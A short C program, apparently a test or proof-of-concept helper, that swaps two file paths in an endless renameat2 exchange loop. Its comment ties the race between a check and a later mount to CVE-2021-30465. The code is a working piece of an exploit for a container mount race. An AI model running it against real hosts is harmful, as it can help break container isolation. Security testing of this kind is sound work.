/*
 * Exchanges two names as fast as it can, until it is killed: what a check has seen is not what a mount then
 * finds (CVE-2021-30465). Says "swapping" when it has begun.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

int main(int count, char **words)
{
	if (count != 3) return 2;
	if (renameat2(AT_FDCWD, words[1], AT_FDCWD, words[2], RENAME_EXCHANGE)) return perror("renameat2"), 1;
	puts("swapping");
	fflush(stdout);
	for (;;) renameat2(AT_FDCWD, words[1], AT_FDCWD, words[2], RENAME_EXCHANGE);
}
